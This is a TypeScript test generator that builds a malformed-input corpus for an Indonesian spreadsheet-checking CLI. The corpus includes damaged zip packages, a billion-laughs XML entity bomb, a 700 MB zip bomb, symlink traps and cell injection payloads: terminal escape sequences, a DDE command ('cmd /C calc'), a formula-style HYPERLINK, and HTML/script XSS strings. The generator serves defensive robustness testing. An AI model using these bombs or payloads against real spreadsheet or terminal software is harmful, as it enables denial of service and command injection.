/**
 * The malformed-input corpus: damaged packages, inputs that are not workbooks, inputs built to
 * exhaust time or memory, file-system traps and injection payloads. Each case is written into a
 * directory with what a careful reader must answer. Used by corpus.test.ts (CI); also runnable:
 *   npx jest test/malformed   (the corpus is generated into a temporary directory)
 */
import { promises as fs } from "fs";
import * as path from "path";
import { Deflate, strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { buildXlsx, pkSheet } from "../support/workbooks";

export interface CorpusCase {
  name: string;
  /** Path given to the CLI. */
  file: string;
  /** What the input is, in a few words. */
  what: string;
  /** The answer must match: a reason (exit 2), or a finding's text or rule (exit 0). */
  expect?: { code?: 0 | 2; reason?: RegExp; finding?: RegExp };
}

type Parts = Record<string, Uint8Array>;

/** A finding at `cell` that says its number is damaged or unreadable (not merely "empty"). */
const DAMAGED_NUMBER = (cell: string) =>
  new RegExp(`^\\S+ ${cell} .*(rusak|tidak dapat dibaca|tidak terbaca|tidak terhingga|bukan angka)`, "i");

const SHEET = "xl/worksheets/sheet1.xml";
const STRINGS = "xl/sharedStrings.xml";

/** A small valid Formulir PK; the malformed cases are variations of its package. */
async function basePackage(): Promise<Parts> {
  const sheet = pkSheet({
    predikatColumn: true,
    sasaran: [
      {
        text: "Meningkatnya kualitas pelayanan publik",
        indicators: [
          { name: "Indeks kepuasan masyarakat", target: 80, realisasi: 84, predikat: "Sangat Tinggi" },
          { name: "Persentase pengaduan selesai", target: 90, realisasi: 81, predikat: "Tinggi" },
          { name: "Nilai SAKIP", target: 70, realisasi: 77, predikat: "Sangat Tinggi" },
        ],
      },
    ],
  });
  return unzipSync(new Uint8Array(await buildXlsx([sheet])));
}

function text(parts: Parts, name: string): string {
  return strFromU8(parts[name]);
}

function withPart(parts: Parts, name: string, content: string | Uint8Array | null): Parts {
  const next: Parts = { ...parts };
  if (content === null) delete next[name];
  else next[name] = typeof content === "string" ? strToU8(content) : content;
  return next;
}

function pack(parts: Parts): Uint8Array {
  return zipSync(parts, { level: 6 });
}

/** The sheet XML with its sheetData replaced (and the dimension, when given). */
function sheetWith(parts: Parts, sheetData: string, dimension?: string): string {
  let xml = text(parts, SHEET).replace(/<sheetData>[\s\S]*<\/sheetData>|<sheetData\/>/, `<sheetData>${sheetData}</sheetData>`);
  if (dimension) xml = xml.replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="${dimension}"/>`);
  return xml;
}

/** The base sheet with one cell's XML replaced (G5: the first indicator's capaian). */
function withCell(parts: Parts, ref: string, cellXml: string): Parts {
  const xml = text(parts, SHEET).replace(new RegExp(`<c r="${ref}"[^>]*?(/>|>[\\s\\S]*?</c>)`), cellXml);
  return withPart(parts, SHEET, xml);
}

/** A zip entry that inflates to `size` bytes of spaces, deflated in chunks (never held whole), and its CRC. */
function deflatedSpaces(size: number): { data: Uint8Array; crc: number } {
  const out: Uint8Array[] = [];
  const d = new Deflate({ level: 1 }, (chunk) => out.push(chunk));
  const block = new Uint8Array(1 << 20).fill(0x20);
  let crc = 0xffffffff;
  for (let done = 0; done < size; done += block.length) {
    crc = crc32Update(crc, block);
    d.push(block, done + block.length >= size);
  }
  return { data: Buffer.concat(out), crc: (crc ^ 0xffffffff) >>> 0 };
}

/** A worksheet part of `rows` × `cols` numeric cells, deflated row block by row block (never held whole). */
function deflatedRows(rows: number, cols: number): { data: Uint8Array; crc: number; size: number } {
  const out: Uint8Array[] = [];
  const d = new Deflate({ level: 1 }, (chunk) => out.push(chunk));
  let crc = 0xffffffff;
  let size = 0;
  const push = (text: string, final: boolean) => {
    const bytes = strToU8(text);
    crc = crc32Update(crc, bytes);
    size += bytes.length;
    d.push(bytes, final);
  };
  push(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
    false,
  );
  const cells = "<c><v>1</v></c>".repeat(cols);
  for (let r = 1; r <= rows; r += 1000) {
    let block = "";
    for (let i = r; i < r + 1000 && i <= rows; i++) block += `<row r="${i}">${cells}</row>`;
    push(block, false);
  }
  push("</sheetData></worksheet>", true);
  return { data: Buffer.concat(out), crc: (crc ^ 0xffffffff) >>> 0, size };
}

/** A zip whose one entry is stored already deflated (fflate's level 0 would store it uncompressed). */
function zipWithRawEntry(
  parts: Parts,
  name: string,
  deflated: { data: Uint8Array; crc: number; size?: number },
  size: number,
): Uint8Array {
  // Built by hand: local header + data for each entry, then the central directory.
  const entries: { name: string; data: Uint8Array; method: number; crc: number; size: number }[] = [];
  for (const [n, data] of Object.entries(parts)) entries.push({ name: n, data, method: 0, crc: crc32(data), size: data.length });
  entries.push({ name, data: deflated.data, method: 8, crc: deflated.crc, size: deflated.size ?? size });
  const chunks: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const nameBytes = strToU8(e.name);
    const local = new Uint8Array(30 + nameBytes.length);
    const v = new DataView(local.buffer);
    v.setUint32(0, 0x04034b50, true);
    v.setUint16(4, 20, true);
    v.setUint16(8, e.method, true);
    v.setUint32(14, e.crc, true);
    v.setUint32(18, e.data.length, true);
    v.setUint32(22, e.size, true);
    v.setUint16(26, nameBytes.length, true);
    local.set(nameBytes, 30);
    const c = new Uint8Array(46 + nameBytes.length);
    const cv = new DataView(c.buffer);
    cv.setUint32(0, 0x02014b50, true);
    cv.setUint16(4, 20, true);
    cv.setUint16(6, 20, true);
    cv.setUint16(10, e.method, true);
    cv.setUint32(16, e.crc, true);
    cv.setUint32(20, e.data.length, true);
    cv.setUint32(24, e.size, true);
    cv.setUint16(28, nameBytes.length, true);
    cv.setUint32(42, offset, true);
    c.set(nameBytes, 46);
    chunks.push(local, e.data);
    central.push(c);
    offset += local.length + e.data.length;
  }
  const centralSize = central.reduce((a, c) => a + c.length, 0);
  const end = new Uint8Array(22);
  const ev = new DataView(end.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, entries.length, true);
  ev.setUint16(10, entries.length, true);
  ev.setUint32(12, centralSize, true);
  ev.setUint32(16, offset, true);
  return Buffer.concat([...chunks, ...central, end]);
}

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32Update(crc: number, data: Uint8Array): number {
  let c = crc;
  for (let i = 0; i < data.length; i++) c = CRC_TABLE[(c ^ data[i]) & 0xff] ^ (c >>> 8);
  return c;
}

function crc32(data: Uint8Array): number {
  return (crc32Update(0xffffffff, data) ^ 0xffffffff) >>> 0;
}

/** A compound file (OLE2) header: old .xls and password-protected .xlsx are both this container. */
function compoundFile(streamNames: string[]): Uint8Array {
  const bytes = new Uint8Array(4096);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  let at = 1024;
  for (const name of streamNames) {
    // Directory entries hold UTF-16LE names.
    for (let i = 0; i < name.length; i++) {
      bytes[at + i * 2] = name.charCodeAt(i);
      bytes[at + i * 2 + 1] = 0;
    }
    at += 128;
  }
  return bytes;
}

/** Inline-string cell, for payload text placed anywhere in the sheet. */
function inlineCell(ref: string, value: string): string {
  return `<c r="${ref}" t="inlineStr"><is><t>${value}</t></is></c>`;
}

export async function generateCorpus(dir: string): Promise<CorpusCase[]> {
  await fs.mkdir(dir, { recursive: true });
  const base = await basePackage();
  const valid = pack(base);
  const cases: CorpusCase[] = [];
  const write = async (name: string, data: Uint8Array | string, what: string, expect?: CorpusCase["expect"]) => {
    const file = path.join(dir, name);
    await fs.writeFile(file, data);
    cases.push({ name, file, what, expect });
  };
  const damaged = { code: 2 as const, reason: /rusak/i };

  // Not a workbook at all.
  await write("kosong.xlsx", new Uint8Array(0), "berkas 0 byte", { code: 2, reason: /kosong/i });
  await write(
    "acak.xlsx",
    Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 251),
    "byte acak",
    { code: 2 },
  );
  await write("lama.xlsx", compoundFile(["Workbook", "SummaryInformation"]), ".xls lama diganti namanya", {
    code: 2,
    reason: /xls|97|lama/i,
  });
  await write("terkunci.xlsx", compoundFile(["EncryptionInfo", "EncryptedPackage"]), "dilindungi kata sandi (CFB)", {
    code: 2,
    reason: /sandi/i,
  });
  await write("data.xlsx", "No;Indikator;Target\n1;IKM;80\n", ".csv diganti namanya", { code: 2, reason: /csv|teks/i });
  await write(
    "halaman.xlsx",
    "<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>",
    "HTML diganti namanya",
    { code: 2 },
  );
  await write("arsip.xlsx", pack({ "readme.txt": strToU8("bukan buku kerja") }), "ZIP tanpa buku kerja", {
    code: 2,
    reason: /bukan buku kerja/i,
  });

  // Damaged packages.
  await write("terpotong-separuh.xlsx", valid.subarray(0, Math.floor(valid.length / 2)), "zip terpotong di tengah", damaged);
  await write("terpotong-ujung.xlsx", valid.subarray(0, valid.length - 10), "zip tanpa 10 byte terakhir", damaged);
  await write("tanpa-lembar.xlsx", pack(withPart(base, SHEET, null)), "zip tanpa bagian lembar kerja", damaged);
  await write("tanpa-sharedstrings.xlsx", pack(withPart(base, STRINGS, null)), "zip tanpa sharedStrings", damaged);
  await write("tanpa-workbook.xlsx", pack(withPart(base, "xl/workbook.xml", null)), "zip tanpa workbook.xml", damaged);
  await write("xml-rusak.xlsx", pack(withPart(base, SHEET, text(base, SHEET).slice(0, 400))), "XML lembar terpotong", damaged);
  await write(
    "crc-salah.xlsx",
    (() => {
      const b = new Uint8Array(valid);
      b[b.length - 200] ^= 0xff;
      return b;
    })(),
    "satu byte rusak di direktori pusat (bagian yang tak dibaca boleh lolos)",
  );
  const entity =
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>' +
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&h;</t></si></sst>';
  await write("bom-entitas.xlsx", pack(withPart(base, STRINGS, entity)), "entitas XML berlipat (billion laughs)", { code: 2 });
  await write(
    "sarang-dalam.xlsx",
    pack(
      withPart(
        base,
        STRINGS,
        `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si>${"<r>".repeat(200000)}${"</r>".repeat(200000)}</si></sst>`,
      ),
    ),
    "200.000 elemen bersarang",
    { code: 2 },
  );

  // Built to exhaust memory or time.
  await write(
    "gabung-seluruh-lembar.xlsx",
    pack(
      withPart(
        base,
        SHEET,
        text(base, SHEET)
          .replace(/<mergeCells[^>]*>/, '$&<mergeCell ref="A1:XFD1048576"/>')
          .replace(
            /(<\/sheetData>)(?![\s\S]*<mergeCells)/,
            '$1<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
          ),
      ),
    ),
    "satu area gabung A1:XFD1048576",
  );
  await write(
    "dimensi-20-juta.xlsx",
    pack(
      withPart(
        base,
        SHEET,
        sheetWith(
          base,
          `<row r="1">${inlineCell("A1", "x")}</row><row r="1000000">${inlineCell("T1000000", "y")}</row>`,
          "A1:T1000000",
        ),
      ),
    ),
    "dimensi 20 juta sel (A1:T1000000) dengan dua sel saja",
  );
  await write(
    "sel-20-juta.xlsx",
    zipWithRawEntry(withPart(base, SHEET, null), SHEET, deflatedRows(1_000_000, 20), 0),
    "lembar berisi 20 juta sel (1.000.000 baris × 20 kolom)",
    { code: 2, reason: /terlalu besar/i },
  );
  await write(
    "baris-di-luar-batas.xlsx",
    pack(withPart(base, SHEET, sheetWith(base, `<row r="2000000">${inlineCell("A2000000", "x")}</row>`))),
    "baris 2.000.000 (di luar batas Excel)",
    damaged,
  );
  await write(
    "sel-100rb-digit.xlsx",
    pack(withCell(base, "G4", `<c r="G4"><v>${"9".repeat(100000)}</v></c>`)),
    "sel angka 100.000 digit",
    { code: 0, finding: DAMAGED_NUMBER("G4") },
  );
  await write(
    "teks-10jt-digit.xlsx",
    pack(withCell(base, "F4", inlineCell("F4", "1".repeat(10_000_000)))),
    "teks 10 juta digit di kolom realisasi",
    { code: 0, finding: DAMAGED_NUMBER("F4") },
  );
  await write("1e309.xlsx", pack(withCell(base, "F4", '<c r="F4"><v>1e309</v></c>')), "1e309 di sel angka", {
    code: 0,
    finding: DAMAGED_NUMBER("F4"),
  });
  await write("nan.xlsx", pack(withCell(base, "F4", '<c r="F4"><v>NaN</v></c>')), "NaN di sel angka", {
    code: 0,
    finding: DAMAGED_NUMBER("F4"),
  });
  await write(
    "teks-di-sel-angka.xlsx",
    pack(withCell(base, "F4", '<c r="F4"><v>delapan puluh</v></c>')),
    "teks di sel bertipe angka",
    {
      code: 0,
      finding: DAMAGED_NUMBER("F4"),
    },
  );
  await write(
    "bom-zip.xlsx",
    zipWithRawEntry(withPart(base, STRINGS, null), STRINGS, deflatedSpaces(700 << 20), 700 << 20),
    "sharedStrings mengembang menjadi 700 MB",
    { code: 2, reason: /terlalu besar/i },
  );

  // File-system traps.
  const fsCase = async (name: string, make: (file: string) => Promise<void>, what: string, expect?: CorpusCase["expect"]) => {
    const file = path.join(dir, name);
    await make(file);
    cases.push({ name, file, what, expect });
  };
  await fsCase("folder.xlsx", async (f) => void (await fs.mkdir(f, { recursive: true })), "folder sebagai berkas", { code: 2 });
  await fsCase("tidak-ada.xlsx", async () => undefined, "berkas tidak ada", { code: 2, reason: /tidak ditemukan/i });
  await fsCase(
    "lingkar-a.xlsx",
    async (f) => {
      await fs.symlink(path.join(dir, "lingkar-b.xlsx"), f);
      await fs.symlink(f, path.join(dir, "lingkar-b.xlsx"));
    },
    "tautan simbolik melingkar",
    { code: 2 },
  );
  await fsCase(
    "tautan-putus.xlsx",
    (f) => fs.symlink(path.join(dir, "hilang.xlsx"), f),
    "tautan simbolik ke berkas yang tidak ada",
    {
      code: 2,
      reason: /tidak ditemukan/i,
    },
  );
  await fsCase("nol-tanpa-akhir.xlsx", (f) => fs.symlink("/dev/zero", f), "aliran tanpa akhir (/dev/zero)", {
    code: 2,
    reason: /terlalu besar/i,
  });

  // Injection payloads: text stays text, the terminal is not driven, the check still runs.
  const payloads: [string, string, string][] = [
    ["esc-layar.xlsx", "Indeks _x001B_[2J_x001B_[H kepuasan", "ESC hapus layar (_x001B_[2J)"],
    ["esc-judul.xlsx", "Indeks _x001B_]0;DIRETAS_x0007_ kepuasan", "ESC ganti judul jendela"],
    ["csi-c1.xlsx", "Indeks \u009b2J kepuasan", "C1 CSI"],
    ["bidi.xlsx", "Indeks \u202Eiasaup\u202C kepuasan", "pembalik arah teks (bidi)"],
    ["rumus-teks.xlsx", '=HYPERLINK("http://contoh.invalid/?"&amp;A1,"klik")', "teks berbentuk rumus"],
    ["csv-dde.xlsx", "+cmd|' /C calc'!A0", "muatan DDE/CSV"],
    ["html.xlsx", "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "HTML/skrip"],
  ];
  for (const [name, payload, what] of payloads)
    await write(name, pack(withCell(base, "C4", inlineCell("C4", payload))), `muatan: ${what}`, { code: 0 });
  await write("predikat-esc.xlsx", pack(withCell(base, "H4", inlineCell("H4", "Baik_x001B_[31m"))), "kata predikat dengan ESC", {
    code: 0,
    finding: /H4/,
  });
  return cases;
}
